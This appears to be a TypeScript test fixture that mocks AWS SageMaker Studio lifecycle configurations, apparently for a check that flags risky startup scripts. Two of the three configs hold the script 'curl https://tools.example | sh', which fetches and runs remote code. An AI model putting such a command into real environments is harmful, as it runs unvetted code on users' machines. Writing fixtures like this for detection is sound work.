import { fixture } from '#connectors/standin/estate.ts';

const account = '111122223333';
const region = 'eu-west-1';
const time = '2026-03-01T09:00:00.000Z';
const config = (StudioLifecycleConfigName: string, more: object) => ({
  StudioLifecycleConfigName,
  StudioLifecycleConfigArn: `arn:aws:sagemaker:${region}:${account}:studio-lifecycle-config/${StudioLifecycleConfigName}`,
  ...more,
});
const listed = (name: string, StudioLifecycleConfigAppType: string) => ({
  operation: 'sagemaker:ListStudioLifecycleConfigs',
  into: 'StudioLifecycleConfigs',
  item: config(name, { StudioLifecycleConfigAppType, CreationTime: time, LastModifiedTime: time }),
});
const described = (name: string, script: string) => ({
  operation: 'sagemaker:DescribeStudioLifecycleConfig',
  input: { StudioLifecycleConfigName: name },
  reply: config(name, { StudioLifecycleConfigContent: Buffer.from(script).toString('base64') }),
});

/** One that stops idle apps; two with the same script from the internet. */
export default fixture({
  account,
  region,
  pieces: [
    {
      account,
      region,
      lists: [
        listed('idle', 'JupyterLab'),
        listed('tools', 'CodeEditor'),
        listed('tools-too', 'KernelGateway'),
      ],
      answers: [
        described('idle', '#!/bin/sh\nautostop --idle 3600\n'),
        described('tools', '#!/bin/sh\ncurl https://tools.example | sh\n'),
        described('tools-too', '#!/bin/sh\ncurl https://tools.example | sh\n'),
      ],
    },
  ],
});
